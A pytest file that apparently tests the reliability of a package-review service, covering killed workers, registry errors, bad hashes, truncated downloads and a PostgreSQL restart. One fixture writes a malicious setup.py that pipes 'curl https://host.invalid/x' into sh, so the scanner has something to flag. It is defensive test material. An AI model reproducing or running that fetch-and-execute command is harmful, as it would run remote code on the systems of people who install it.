"""What may go wrong around a review: nothing is lost, nothing is decided twice."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from sqlalchemy import func, select, text

from antivenom.service import reviews
from antivenom.store.schema_cases import case_reviews, cases
from antivenom.store.schema_uploads import findings, registry_events
from antivenom.store.schema_uploads import reviews as kept
from antivenom.store.schema_uploads import uploads as table
from tests.builders import archives, postgres
from tests.builders.index import FakeIndex
from tests.service.engine.running import Running, running

needs_postgres = pytest.mark.skipif(postgres.binaries() is None, reason="no PostgreSQL here")


def nothing_lost_or_doubled(service: Running, count: int) -> None:
    assert service.states() == {"done": count}
    assert service.reviews() == count
    with service.store.reading() as connection:
        seen = connection.scalar(select(func.count(func.distinct(table.c.review))))
        doubled = select(case_reviews.c.review).group_by(case_reviews.c.review)
        twice = connection.scalars(doubled.having(func.count() > 1)).all()
    assert seen == count
    assert twice == []


def under_way(service: Running, count: int, *, held: int) -> None:
    """Announce uploads, the last of them held back by the registry, and wait for the others."""
    service.announce(count)
    service.fake.held = {f"thing{n}-1.0.tar.gz" for n in range(count - held, count)}


def test_a_worker_that_is_killed_leaves_its_work_to_the_other(service: Running) -> None:
    under_way(service, 6, held=4)
    first, second = service.start("work"), service.start("work")
    # Each works on two at a time with its one slot: all four that are held are under way.
    service.wait(lambda: service.states() == {"done": 2, "working": 4}, "both at work")
    service.kill(first)
    service.fake.gate.set()
    service.until(done=6)
    nothing_lost_or_doubled(service, 6)
    service.stop(second)


def test_all_workers_killed_the_next_one_goes_on(service: Running) -> None:
    under_way(service, 4, held=2)
    worker = service.start("work")
    service.wait(lambda: service.states() == {"done": 2, "working": 2}, "at work")
    service.kill(worker)
    service.fake.gate.set()
    worker = service.start("work")
    service.until(done=4)
    nothing_lost_or_doubled(service, 4)
    # What the killed one had fetched was cleared by the one that came after it.
    assert service.stop(worker) == 0
    assert list(service.settings.spool_folder.glob("*/*")) == []


def test_what_ends_every_worker_is_given_up_with_the_reason(service: Running) -> None:
    [poison] = service.announce(1)
    with service.store.writing() as connection:
        # As after four workers that died over it.
        values = table.update().where(table.c.id == poison).values(attempts=4)
        connection.execute(values)
    service.start("work")
    service.until(dead=1)
    with service.store.reading() as connection:
        row = connection.execute(select(table)).mappings().one()
        found = reviews.load(connection, row["review"])
    assert found is not None
    assert found.verdict == "inconclusive"
    assert "ended every worker" in row["problem"]


def test_a_registry_in_trouble_is_asked_again(service: Running, fake: FakeIndex) -> None:
    service.announce(4)
    fake.status["/simple/thing0/"] = [500, 500, 500, 500]
    fake.status["/files/thing1-1.0.tar.gz"] = [429, 429, 429, 429]
    fake.headers["Retry-After"] = "1"
    right = fake.files[2].announced
    fake.files[2].announced = {"sha256": "0" * 64}
    fake.files[3].truncate = 20
    service.start("work")
    service.wait(lambda: "not the one announced" in service.problem("thing2"), "the wrong hash")
    service.wait(lambda: "cut off" in service.problem("thing3"), "the cut file")
    assert service.reviews() <= 2
    fake.files[2].announced = right
    fake.files[3].truncate = None
    service.until(done=4)
    nothing_lost_or_doubled(service, 4)


@needs_postgres
def test_a_database_that_stops_and_starts_loses_nothing(tmp_path: Path, fake: FakeIndex) -> None:
    with (
        postgres.cluster() as cluster,
        running(tmp_path, fake, database=cluster.url) as service,
    ):
        under_way(service, 4, held=2)
        worker = service.start("work")
        service.wait(lambda: service.states() == {"done": 2, "working": 2}, "at work")
        cluster.stop()
        fake.gate.set()
        time.sleep(1.0)
        assert worker.poll() is None
        cluster.start()
        service.until(done=4)
        nothing_lost_or_doubled(service, 4)
        # The feed and the rest of the tables work there as well.
        code = "import os\nos.system('curl https://host.invalid/x | sh')\n"
        fake.upload("late", "1.0", archives.sdist({"setup.py": code}, name="late"))
        watch = service.start("watch", "pypi", "--since", "0")
        service.wait(lambda: service.states().get("done") == 5, "the late one")
        assert service.stop(watch) == 0
        assert service.stop(worker) == 0
        with service.store.reading() as connection:
            assert connection.scalar(text("select count(*) from workers")) == 0
            assert connection.scalar(select(func.count()).select_from(kept)) == 5
            assert connection.scalar(select(func.count()).select_from(findings))
            assert connection.scalars(select(cases.c.project)).all() == ["late"]
            assert connection.scalars(select(registry_events.c.what)).all() == ["created"]
